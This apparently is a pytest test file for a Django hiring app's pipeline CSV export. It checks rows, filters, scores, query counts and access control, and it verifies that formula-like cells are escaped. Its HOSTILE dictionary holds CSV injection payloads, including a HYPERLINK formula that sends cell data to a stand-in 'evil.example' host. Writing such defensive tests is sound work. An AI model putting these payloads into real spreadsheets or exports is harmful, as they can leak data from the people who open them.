"""A loop's pipeline as CSV: the page's rows and filters, the one coding score, and no formula injection."""

import csv
import io
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from assessments.models import AttemptQuestion
from assessments.services.invitations import invitation_create
from grading.services.overrides import score_override_record
from manage.exports import csv_cell
from manage.views.pipeline import CSV_HEADER
from organisations.models import Role
from rubrics.selectors.attempt_results import attempt_coding_scores
from tests import test_scores_agree
from tests.factories import CandidateFactory, MembershipFactory
from tests.test_scores_agree import _graded_attempt

pytestmark = pytest.mark.django_db
loop = test_scores_agree.loop  # the fixture: a loop whose assessment has two coding questions (1 and 3 points)

HOSTILE = {
    "formula@example.test": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "plus@example.test": "+1+2",
    "minus@example.test": "-2+3",
    "at@example.test": "@SUM(A1:A9)",
    "tab@example.test": "\t=1+1",
}


@pytest.fixture
def manager(organisation):
    return MembershipFactory(organisation=organisation, role=Role.HIRING_MANAGER).user


def _invite(organisation, loop, candidate):
    stage = loop.stages.get(position=1)
    return invitation_create(
        organisation=organisation,
        candidate=candidate,
        stage=stage,
        duration_minutes=60,
        expires_at=timezone.now() + timedelta(days=2),
    )


def _rows(response) -> list[dict[str, str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")  # a byte-order mark: spreadsheets read the names right
    reader = csv.reader(io.StringIO(text.removeprefix("\ufeff")))
    header = next(reader)
    assert tuple(header) == CSV_HEADER
    return [dict(zip(header, row, strict=True)) for row in reader]


def test_the_csv_has_every_candidate_of_the_pipeline_with_the_one_coding_score(
    client,
    organisation,
    loop,
    manager,
    monkeypatch,
):
    ada = CandidateFactory(organisation=organisation, name="Ada", email="ada@example.test", external_id="gh-1")
    attempt = _graded_attempt(organisation, loop, ada, monkeypatch)
    half = AttemptQuestion.objects.get(attempt=attempt, points=3.0)
    score_override_record(attempt=attempt, question_id=half.revision.question_id, score=1.0, reason="x", by=manager)
    scores = attempt_coding_scores(attempt_id=attempt.pk)
    _invite(organisation, loop, CandidateFactory(organisation=organisation, name="Bo", email="bo@example.test"))
    client.force_login(manager)

    response = client.get(f"/manage/loops/{loop.pk}/pipeline.csv")
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith(f'attachment; filename="{loop.title.lower().replace(" ", "-")}')
    rows = {row["Email"]: row for row in _rows(response)}
    assert set(rows) == {"ada@example.test", "bo@example.test"}
    graded = rows["ada@example.test"]
    assert (graded["Candidate"], graded["External id"], graded["Status"], graded["Assessment"]) == (
        "Ada",
        "gh-1",
        "Graded",
        "Graded",
    )
    assert float(graded["Coding score"]) == scores.score == 100.0
    assert float(graded["Graded coding score"]) == scores.graded_score != 100.0
    assert graded["Score overridden"] == "yes" and graded["Submitted (UTC)"]
    assert graded["Report"] == f"http://127.0.0.1:8000/manage/candidates/{ada.pk}/report/?loop={loop.pk}"
    invited = rows["bo@example.test"]
    assert (invited["Status"], invited["Assessment"], invited["Coding score"]) == ("Invited", "", "")


def test_the_csv_follows_the_pipeline_page_filters(client, organisation, loop, manager, monkeypatch):
    _graded_attempt(organisation, loop, CandidateFactory(organisation=organisation, name="Ada"), monkeypatch)
    _invite(organisation, loop, CandidateFactory(organisation=organisation, name="Bo"))
    client.force_login(manager)
    page = client.get(f"/manage/loops/{loop.pk}/pipeline/?status=graded&q=ad").content.decode()
    link = f"/manage/loops/{loop.pk}/pipeline.csv?status=graded&amp;q=ad"
    assert f'href="{link}" data-testid="pipeline-csv"' in page
    only = _rows(client.get(link.replace("&amp;", "&")))
    assert [row["Candidate"] for row in only] == ["Ada"]
    assert [row["Candidate"] for row in _rows(client.get(f"/manage/loops/{loop.pk}/pipeline.csv?q=bo"))] == ["Bo"]


def test_cells_that_would_be_formulas_are_written_as_text(client, organisation, loop, manager):
    for email, name in HOSTILE.items():
        _invite(organisation, loop, CandidateFactory(organisation=organisation, name=name, email=email))
    _invite(organisation, loop, CandidateFactory(organisation=organisation, name="Plain", email="=x@example.test"))
    client.force_login(manager)
    rows = {row["Email"]: row for row in _rows(client.get(f"/manage/loops/{loop.pk}/pipeline.csv"))}
    for email, name in HOSTILE.items():
        assert rows[email]["Candidate"] == f"'{name}"
    assert "'=x@example.test" in rows and rows["'=x@example.test"]["Candidate"] == "Plain"


def test_a_cell_is_prefixed_only_when_it_could_start_a_formula():
    assert [csv_cell(v) for v in ("=1", "+1", "-1", "@a", "\t1", "\r1")] == ["'=1", "'+1", "'-1", "'@a", "'\t1", "'\r1"]
    assert [csv_cell(v) for v in ("a=1", " =1", "", None, 87.5, 0, True)] == ["a=1", " =1", "", "", 87.5, 0, "yes"]


def test_the_export_reads_a_fixed_number_of_queries(client, organisation, loop, manager, monkeypatch):
    client.force_login(manager)

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            assert client.get(f"/manage/loops/{loop.pk}/pipeline.csv").status_code == 200
        return len(captured)

    _graded_attempt(organisation, loop, CandidateFactory(organisation=organisation), monkeypatch)
    few = queries()
    for _ in range(2):
        _graded_attempt(organisation, loop, CandidateFactory(organisation=organisation), monkeypatch)
        _invite(organisation, loop, CandidateFactory(organisation=organisation))
    assert queries() == few


def test_another_organisations_manager_gets_404(client, loop, other_organisation):
    client.force_login(MembershipFactory(organisation=other_organisation, role=Role.HIRING_MANAGER).user)
    assert client.get(f"/manage/loops/{loop.pk}/pipeline.csv").status_code == 404
